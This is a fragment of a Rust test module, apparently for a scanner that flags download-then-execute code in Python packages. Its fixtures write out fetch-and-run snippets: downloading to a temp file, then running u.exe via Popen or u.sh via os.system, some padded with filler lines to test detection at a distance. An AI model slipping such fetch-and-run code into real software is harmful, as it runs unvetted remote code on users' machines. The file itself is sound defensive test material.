                ("response written then run", "pkg/a.py", Runtime, "r = requests.get(U)\nopen(p, \x27wb\x27).write(r.content)\nsubprocess.call([p])\n", Some((3, "download then subprocess.call", Critical))),
            ],
        );
    }

    static FLOW_FAR: LazyLock<String> = LazyLock::new(|| {
        format!(
            "import os, tempfile, subprocess, urllib.request\ndef stage():\n    dst = os.path.join(tempfile.gettempdir(), 'u.exe')\n    body = urllib.request.urlopen(U).read()\n    open(dst, 'wb').write(body)\n{}    subprocess.Popen([dst])\n",
            "    log('x')\n".repeat(38)
        )
    });

    static FLOW_METHOD: LazyLock<String> = LazyLock::new(|| {
        format!(
            "class U:\n    def up(self):\n        path = self.tmp + '/u.sh'\n        urlretrieve(U, path)\n{}        os.system('bash %s' % path)\n",
            "        self.log('x')\n".repeat(33)
        )
    });

    static FAR: LazyLock<String> =
        LazyLock::new(|| format!("r = requests.get(u)\n{}subprocess.run(['git', 'status'])\n", "x = 1\n".repeat(40)));
}
